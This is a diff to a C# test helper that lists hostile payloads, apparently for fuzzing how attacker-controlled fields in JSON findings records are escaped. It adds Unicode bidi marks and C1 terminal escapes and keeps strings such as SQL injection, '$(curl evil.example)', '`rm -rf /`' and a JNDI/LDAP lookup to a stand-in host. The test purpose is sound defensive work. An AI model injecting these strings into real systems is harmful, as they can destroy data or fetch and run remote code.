@@ -29,7 +29,19 @@ public static class HostilePayloads
         "\"}],\"injected\":true,{\"", "\\\"", "\\u0000", "'; DROP TABLE findings; --", "$(curl evil.example)", "`rm -rf /`", "${jndi:ldap://evil.example/a}",
         "{{7*7}}", "%s%n%x", "\uFFFE\uFFFF", "\uD83D\uDE00\u200D\uD83D\uDCA5", "Ａｄｍｉｎ", "zero\u200Bwidth", new string('A', 10_000),
         string.Concat(Enumerable.Repeat("<!channel>", 500)),
+        // Bidi marks, BOM and other invisible format characters, and 8-bit (C1) CSI/OSC sequences.
+        "lrm\u200Emark", "rlm\u200Fmark", "alm\u061Cmark", "bom\uFEFFmark", "soft\u00ADhyphen", "word\u2060joiner",
+        "\u009d8;;http://x\u009clink\u009d8;;\u009c", "\u009b31mred\u009b0m", "\u0085nel",
     ];
+
+    /// <summary>
+    /// A benign word every placed payload starts with (<see cref="Carried"/>): letters and digits only, so every
+    /// output shows it as it is, and a test finds the payload (or its escaped form) where it reached.
+    /// </summary>
+    public const string Marker = "qzmark7x";
+
+    /// <summary>The text placed in a field: the marker, then the payload.</summary>
+    public static string Carried(string payload) => Marker + payload;
 
     /// <summary>The attacker-controlled fields, each as a function that places a payload in a copy of the record.</summary>
     public static IReadOnlyList<(string Field, Action<JsonObject, string> Place)> Placements { get; } =
